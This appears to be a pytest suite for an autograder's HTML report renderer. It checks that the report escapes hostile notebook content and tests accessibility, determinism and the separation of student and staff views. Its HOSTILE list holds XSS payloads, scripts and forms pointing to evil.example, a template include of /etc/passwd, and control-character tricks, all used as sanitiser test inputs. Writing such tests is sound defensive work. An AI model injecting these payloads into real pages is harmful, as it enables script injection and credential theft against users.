"""The HTML report: complete, harmless whatever the notebook holds, the same every time, and usable by everybody."""

from __future__ import annotations

import re
import subprocess
import sys
from enum import Enum
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from pydantic import BaseModel
from report_reader import read
from report_samples import FORGOTTEN, check, png, question, realistic, result

import grader.report as package
from grader.errors import OutputError
from grader.report import html, write_html
from grader.results import (
    Audience,
    Cell,
    Execution,
    ExecutionStatus,
    Output,
    Picture,
    Result,
    Status,
    Visibility,
    for_student,
)

HOSTILE = (
    "<script>alert(1)</script>",
    "</title></style><script src=//evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<img src=https://evil.example/spy.png><iframe src=https://evil.example></iframe>",
    "![x](https://evil.example/spy.png) [go](javascript:alert(1)) [in](data:text/html,<script>alert(1)</script>)",
    "$\\text{<script>alert(1)</script>}$ $\\href{javascript:alert(1)}{x}$ "
    "$$\\style{background:url(//evil.example)}{x}$$",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg onload=alert(1)><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<style>body{background:url(https://evil.example)}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<div style='position:fixed;inset:0' class='score' id='main'>100 of 100</div>",
    "<a href=' javascript:alert(1)'>x</a><a href=//evil.example>y</a>"
    "<a href='https://ok.example/\" onclick=alert(1)'>z</a>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "]]><script>alert(1)</script><![CDATA[",
    "\x1b[31mred\x1b]0;title\x07\x9b31m \u202eevil\u202c \x00\x08\x7f",
    "```\n</code></pre><script>alert(1)</script>",
    '<div title="\n\n$x$\n\n onmouseover=alert(1)">',
)
MIMES = (
    "text/plain",
    "text/html",
    "text/markdown",
    "text/latex",
    "image/png",
    "image/svg+xml",
    "application/vnd.grader.stderr",
    "application/javascript",
)


def poisoned(record: Any, text: str) -> Any:
    """Return a record with every free string in it replaced."""
    if isinstance(record, BaseModel):
        kept = {"kind", "schema_version", "mime"}
        fields = type(record).model_fields
        return record.model_copy(
            update={name: poisoned(getattr(record, name), text) for name in fields if name not in kept}
        )
    if isinstance(record, tuple):
        return tuple(poisoned(item, text) for item in record)
    return text if isinstance(record, str) and not isinstance(record, Enum) else record


def with_every_mime(text: str) -> Result:
    """Return a result whose cells print text in every way there is."""
    cells = tuple(
        Cell(index=i, kind="code", source=text, outputs=(Output(mime=mime, data=text),)) for i, mime in enumerate(MIMES)
    )
    prose = Cell(index=len(MIMES), kind="markdown", source=text)
    return result(execution=Execution(status=ExecutionStatus.COMPLETED, cells=(*cells, prose)))


@pytest.fixture(scope="module")
def page() -> str:
    return html(realistic())


def test_public_names_are_listed():
    assert sorted(package.__all__) == package.__all__
    assert all(hasattr(package, name) for name in package.__all__)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_survives_in_any_field(text):
    found = read(html(poisoned(realistic(), text)))

    assert found.concerns == []
    assert found.tags.count("title") == 1 + found.tags.count("svg")
    assert found.tags.count("style") == found.tags.count("h1") == 1
    assert len(found.ids) == len(set(found.ids))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_survives_in_any_output(text):
    found = read(html(with_every_mime(text)))

    assert found.concerns == []
    assert found.tags.count("style") == found.tags.count("h1") == 1


def test_a_page_without_hostile_text_gives_no_concern_either(page):
    assert read(page).concerns == []


def test_control_and_direction_characters_become_visible():
    text = read(html(result(student="a\x1b[2Jb\u202ec\x07d"))).text

    assert "ab⟨U+202E⟩c␇d" in text
    assert not set(text) & set("\x1b\x07\u202e")


def test_templates_are_not_run_on_what_a_student_wrote():
    assert "{{ 7 * 7 }}" in read(html(result(student="{{ 7 * 7 }}"))).text


def test_the_page_may_neither_run_nor_fetch_anything(page):
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)

    assert policy is not None
    assert "default-src 'none'; style-src 'unsafe-inline'; img-src data:;" in policy[1]
    assert "@import" not in page
    assert "url(http" not in page


def test_the_same_result_gives_the_same_bytes(page):
    assert page == html(realistic())


def test_score_and_pending_points_are_said_in_words(page):
    text = " ".join(read(page).text.split())

    assert "21.5 of 80 points" in text
    assert "25 points wait for a person." in text


@pytest.mark.parametrize("status", Status, ids=lambda status: status.value)
def test_every_status_is_written_out(status):
    words = {
        Status.PASSED: "passed",
        Status.FAILED: "failed",
        Status.ERROR: "our error",
        Status.NOT_REACHED: "not reached",
        Status.NOT_ATTEMPTED: "not attempted",
        Status.NEEDS_REVIEW: "needs review",
    }
    shown = read(html(result((question(1, (check(status),), status),)))).text

    assert words[status] in shown
    assert not [word for other, word in words.items() if other is not status and word in shown]


def test_failed_with_some_points_is_partly_right():
    shown = read(html(result((question(1, (check(Status.FAILED, 2.0),), Status.FAILED),)))).text

    assert "partly right" in shown


def test_everything_a_check_has_to_say_is_there(page):
    text = read(page).text
    expected = (
        "6 of its 9 values are wrong",
        "What probably happened",
        FORGOTTEN.title,
        "What to try",
        "Look at the entries",
        "What we understood",
        "its first element was taken",
        "softmax_jacobian(array([0.2, -1.3, 0.7]))",
        "The diagonal agrees",
        "For staff",
        "conditioning 4.1",
        "worst index",
    )

    assert [words for words in expected if words not in text] == []


def test_a_students_page_holds_nothing_of_hidden_checks_and_staff():
    text = read(html(for_student(realistic()))).text

    assert "conditioning 4.1" not in text
    assert "wrong by 84 %" not in text
    assert "This check is hidden" in text
    assert FORGOTTEN.title in text


def test_next_steps_are_the_dearest_failures_first(page):
    steps = re.search(r'<section class="steps".*?</section>', page, re.DOTALL)

    assert steps is not None
    assert re.findall(r'href="#([^"]+)"', steps[0]) == ["q3-c3", "q2-c1"]  # q3-c4 fails for the reason of q3-c3


@pytest.mark.parametrize(
    ("message", "said"),
    [
        ("Your notebook does not define `relu`.", "Your notebook does not define relu."),
        ("", "This is still as it was handed out."),
    ],
)
def test_what_was_not_attempted_is_to_do_for_the_reason_its_check_gives(message, said):
    page = html(result((question(1, (check(Status.NOT_ATTEMPTED, message=message),), Status.NOT_ATTEMPTED),)))
    steps = read(re.search(r'<section class="steps".*?</section>', page, re.DOTALL)[0]).text

    assert said in " ".join(steps.split())
    assert ("as it was handed out" in steps) is (not message)


def test_nothing_is_left_to_do_when_nothing_was_lost():
    page = html(result((question(1, (check(score=5), check(Status.NEEDS_REVIEW), check(Status.ERROR)), Status.ERROR),)))

    assert "What to do next" not in page


def test_every_link_inside_the_page_has_its_target(page):
    found = read(page)

    assert set(found.targets) <= set(found.ids)
    assert len(found.ids) == len(set(found.ids))


def test_a_cell_that_belongs_to_two_questions_has_one_anchor():
    cells = (Cell(index=0, kind="code", source="x = 1"),)
    twice = tuple(question(n, (check(score=5),), Status.PASSED, cells=(0,)) for n in (1, 2))
    page = html(result(twice, execution=Execution(status=ExecutionStatus.COMPLETED, cells=cells)))

    assert page.count('id="cell-1"') == 1
    assert page.count("Source of cell 1") == 2


def test_an_index_without_a_cell_is_no_reason_to_fail():
    page = html(result((question(1, (check(score=5),), Status.PASSED, cells=(7,)),)))

    assert "of the notebook</summary>" not in page


def test_cells_are_open_only_where_points_were_lost():
    cells = (Cell(index=0, kind="code", source="x = 1"),)
    execution = Execution(status=ExecutionStatus.COMPLETED, cells=cells)
    lost = html(result((question(1, (check(Status.FAILED),), Status.FAILED, cells=(0,)),), execution=execution))
    kept = html(result((question(1, (check(score=5),), Status.PASSED, cells=(0,)),), execution=execution))

    assert '<details class="cells" open>' in lost
    assert '<details class="cells">' in kept


def test_a_submission_that_could_not_be_graded_says_why_first():
    page = html(
        result(
            (question(1, (check(Status.NOT_REACHED),), Status.NOT_REACHED),),
            error="This is not JSON: line 3, column 7.",
            execution=Execution(status=ExecutionStatus.NOT_RUN),
        )
    )

    assert page.index("line 3, column 7") < page.index('id="overview-t"')
    assert "Graded without a sandbox" not in page


@pytest.mark.parametrize(
    ("audience", "kind"), [(Audience.INSTRUCTOR, "notice"), (Audience.STUDENT, "quiet")], ids=["instructor", "student"]
)
def test_grading_without_a_sandbox_is_stamped(audience, kind):
    page = html(result(audience=audience))
    stamp = re.search(r'<(?:div|p) class="(\w+)">\s*(?:<p class="lead">)?Graded without a sandbox', page)

    assert stamp is not None
    assert kind == stamp[1]


def test_a_sandboxed_grading_has_no_stamp():
    assert "Graded without" not in html(result(sandbox="namespaces"))


@pytest.mark.parametrize("status", ExecutionStatus, ids=lambda status: status.value)
def test_every_way_to_end_is_explained(status):
    text = read(html(result(execution=Execution(status=status, message="Cell 4 took longer than 60 s.")))).text

    assert "Cell 4 took longer than 60 s." in text


def test_pictures_and_tables_of_a_cell_are_shown(page):
    assert f'src="data:image/png;base64,{png(320, 160)}" alt="Picture made by cell 6"' in page
    assert "1.93</td>" in page
    assert "0      1  1.93" not in page  # the plain twin of the table


def test_a_picture_of_the_notebook_stands_beside_the_verdict(page):
    beside = page.split("Your plot", 1)[1].split("</figure>", 1)[0]

    assert 'href="#cell-6"' in beside
    assert f'src="data:image/png;base64,{png(320, 160)}"' in beside


@pytest.mark.parametrize("place", [(0, 0), (5, 0), (5, 99), (7, 0), (99, 0)])
def test_a_picture_that_is_none_or_nowhere_is_said(place):
    cell, output = place
    shown = check(Status.FAILED, evidence=(Picture(title="Your plot", cell=cell, output=output),))
    page = html(result((question(1, (shown,), Status.FAILED),), execution=realistic().execution))
    beside = page.split("Your plot", 1)[1].split("</figure>", 1)[0]

    assert "not there" in beside
    assert "<a " not in beside


@pytest.mark.parametrize(
    ("mime", "data"),
    [
        ("image/png", "not base64 at all!"),
        ("image/png", "PHN2Zz48L3N2Zz4="),
        ("image/jpeg", png()),
        ("image/png", png() + "A" * 4_000_000),
        ("image/svg+xml", "no picture"),
    ],
    ids=["no base64", "svg called png", "png called jpeg", "too large", "no svg"],
)
def test_a_picture_that_is_not_one_is_named_instead(mime, data):
    cell = Cell(index=0, kind="code", source="", outputs=(Output(mime=mime, data=data),))
    page = html(result(execution=Execution(status=ExecutionStatus.COMPLETED, cells=(cell,))))

    assert "A picture is not shown" in page
    assert "<img" not in page


def test_svg_of_a_student_is_an_image_and_never_part_of_the_page():
    svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"
    cell = Cell(index=0, kind="code", source="", outputs=(Output(mime="image/svg+xml", data=svg),))
    found = read(html(result(execution=Execution(status=ExecutionStatus.COMPLETED, cells=(cell,)))))

    assert "img" in found.tags
    assert "svg" not in found.tags
    assert found.concerns == []


def test_long_output_loses_its_middle_and_says_so():
    cell = Cell(index=0, kind="code", source="", outputs=(Output(mime="text/plain", data="a" * 9_000 + "b" * 50_000),))
    page = html(result(execution=Execution(status=ExecutionStatus.COMPLETED, cells=(cell,))))

    assert "47,000 characters left out" in page
    assert len(page) < 60_000


def test_a_notebook_without_end_gives_a_page_with_one():
    cells = tuple(Cell(index=i, kind="markdown", source="word " * 20_000) for i in range(60))
    page = html(result(execution=Execution(status=ExecutionStatus.COMPLETED, cells=cells)))

    assert "the notebook is too long to be shown whole" in page
    assert len(page) < 3_000_000


def test_headings_come_in_order(page):
    levels = [
        int(tag[1]) for tag in read(page.partition('<div class="content">')[0]).tags if re.fullmatch("h[1-6]", tag)
    ]

    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after <= before + 1 for before, after in pairwise(levels))


def test_whatever_scrolls_can_be_reached_with_the_keyboard_and_is_named(page):
    scrolling = re.findall(r'<div class="[^"]*\bscroll\b(?! drawing)[^"]*"([^>]*)>', page)

    assert len(scrolling) > 10
    assert [rest for rest in scrolling if not re.match(r' tabindex="0" role="region" aria-label="[^"]+"', rest)] == []


def test_pictures_have_words(page):
    assert page.count('role="img" aria-labelledby=') == page.count("<desc id=") == 2
    assert not re.search(r"<img(?![^>]* alt=)", page)


def contrast(one: str, other: str) -> float:
    """Return the contrast of two colours as WCAG 2 defines it."""

    def light(colour: str) -> float:
        parts = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        linear = [p / 12.92 if p <= 0.04045 else ((p + 0.055) / 1.055) ** 2.4 for p in parts]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    bright, dark = sorted((light(one), light(other)), reverse=True)
    return (bright + 0.05) / (dark + 0.05)


@pytest.mark.parametrize("theme", [0, 1], ids=["light", "dark"])
def test_all_text_stands_out_from_what_is_behind_it(page, theme):
    colours = dict(re.findall(r"--([\w-]+): (#[0-9a-f]{6})", re.findall(r":root \{(.*?)\}", page, re.DOTALL)[theme]))
    pairs = [
        *((ink, paper) for ink in ("ink", "soft", "accent") for paper in ("paper", "card", "sunk")),
        *((ink, paper) for ink in ("good", "bad", "half", "ours") for paper in ("paper", "card", f"{ink}-wash")),
        *((f"code-{kind}", "sunk") for kind in ("word", "text", "number", "name", "note")),
        *(("ink", f"{kind}-wash") for kind in ("accent", "half", "bad")),
        *(("accent", "accent-wash"), ("soft", "open-wash")),
    ]
    low = {pair: round(value, 2) for pair in pairs if (value := contrast(*(colours[name] for name in pair))) < 4.5}

    assert low == {}


def test_time_is_told_with_the_slowest_cells_beneath(page):
    rows = re.findall(r'<tr[^>]*><th scope="row">(.*?)</th><td class="figure">(.*?)</td>', page.split("Time spent")[1])

    assert [(re.sub("<.*?>", "", what), spent) for what, spent in rows] == [
        ("Starting the kernel", "0.90 s"),
        ("Running the cells", "5.1 s"),
        ("Cell 6", "4.8 s"),
        ("Cell 2", "0.21 s"),
        ("Asking the checks", "2.3 s"),
    ]


def test_write_html_writes_the_page(tmp_path):
    path = tmp_path / "new" / "alice.html"
    write_html(result(), path)

    assert path.read_text(encoding="utf-8") == html(result())
    assert [path] == list(path.parent.iterdir())


def test_write_html_says_why_it_cannot(tmp_path):
    (tmp_path / "file").write_text("in the way")

    with pytest.raises(OutputError, match=r"alice\.html"):
        write_html(result(), tmp_path / "file" / "alice.html")


def test_importing_reports_does_not_import_matplotlib():
    script = "import sys, grader.report; sys.exit('matplotlib' in sys.modules)"

    assert subprocess.run([sys.executable, "-c", script], check=False, cwd=Path(__file__).parents[2]).returncode == 0


def test_hidden_and_public_checks_are_told_apart():
    page = html(result((question(1, (check(score=5, visibility=Visibility.HIDDEN), check(score=5)), Status.PASSED),)))

    assert page.count('<span class="tag">hidden</span>') == 1
